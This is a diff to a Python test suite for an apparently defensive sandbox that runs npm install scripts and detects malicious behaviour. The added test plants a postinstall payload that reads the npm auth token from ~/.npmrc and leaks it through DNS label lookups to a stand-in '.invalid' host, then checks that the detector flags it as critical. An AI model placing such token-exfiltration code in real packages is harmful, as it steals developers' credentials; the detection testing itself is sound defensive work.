@@ -34,6 +34,11 @@ def benign_files(postinstall=None):
 SLOW = "setTimeout(() => {}, 120000);\n"
 NEW_EXEC = ("require('child_process').execFileSync('/usr/bin/id');\n"
             "require('fs').writeFileSync(require('path').join(__dirname, 'x.txt'), 'x');\n")
+# sends the decoy npm token out in DNS labels (inside the sandbox: no network)
+EXFIL = ("const fs = require('fs'), os = require('os'), path = require('path');\n"
+         "const m = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8').match(/_authToken=(\\S+)/);\n"
+         "const labels = Buffer.from(m[1]).toString('base64url').match(/.{1,24}/g).join('.');\n"
+         "require('dns').lookup(labels + '.t.daemon.invalid', () => {});\n")
 
 
 class DaemonTest(unittest.TestCase):
@@ -155,6 +160,19 @@ class DaemonTest(unittest.TestCase):
         r3 = self.wait_finished(o.submit("benign", "1.2.0"))
         self.assertEqual(r3["state"], "succeeded", r3)
         self.assertTrue(any("/usr/bin/id" in d["value"] for d in r3["deviations"]), r3["deviations"])
+
+    def test_decoy_leaves_through_a_runner(self):
+        # the runner's sandbox planted the decoys; the orchestrator judges
+        self.reg.publish("benign", "1.0.0", benign_files(EXFIL))
+        o = self.orchestrator(["--no-watch"] + HB)
+        self.runner(o, "ra")
+        r = self.wait_finished(o.submit("benign", "1.0.0"))
+        self.assertEqual(r["state"], "succeeded", r)
+        hits = [d for d in r["deviations"] if d["kind"] == "rule:decoy-exfiltrated"]
+        self.assertEqual(len(hits), 1, r["deviations"])
+        self.assertEqual(hits[0]["severity"], "critical")
+        self.assertRegex(hits[0]["value"], r"^~/\.npmrc \(base64(url)?, lower-cased, split across DNS labels\)$")
+        self.assertEqual(r["review"], "pending")
 
     def test_least_loaded_and_target(self):
         self.reg.publish("slow", "1.0.0", benign_files(SLOW))
